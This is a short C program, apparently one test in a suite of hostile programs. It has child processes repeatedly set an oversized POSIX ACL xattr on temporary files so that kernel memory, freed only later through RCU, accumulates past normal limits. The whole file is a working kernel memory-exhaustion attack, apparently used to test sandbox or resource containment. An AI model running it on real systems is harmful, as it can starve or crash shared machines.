/* Few files, no number to run into: each new list frees the one before, but only when the kernel
 * comes round to it (RCU), and until then there are as many as were set. */
#include "hostile.h"
#include <sys/xattr.h>

enum { ENTRIES = 8000 };
static struct {
    uint32_t version;
    struct {
        uint16_t tag, permissions;
        uint32_t id;
    } entries[ENTRIES];
} list = {.version = 2};

static void work(int number)
{
    char path[64];
    double end = now_s() + 0.7;
    snprintf(path, sizeof path, "/tmp/c%d", number);
    int fd = open(path, O_CREAT | O_WRONLY, 0600);
    while (fsetxattr(fd, "system.posix_acl_access", &list, sizeof list, 0) == 0 && now_s() < end)
        ;
}

int main(void)
{
    for (unsigned i = 0; i < ENTRIES; i++) {
        list.entries[i].permissions = 6;
        list.entries[i].tag = i == 0 ? 1 : i == ENTRIES - 3 ? 4 : i == ENTRIES - 2 ? 16 : 2;
        list.entries[i].id = i;
    }
    list.entries[ENTRIES - 1].tag = 32;
    in_children(2, work);
    HELD();
    return 0;
}
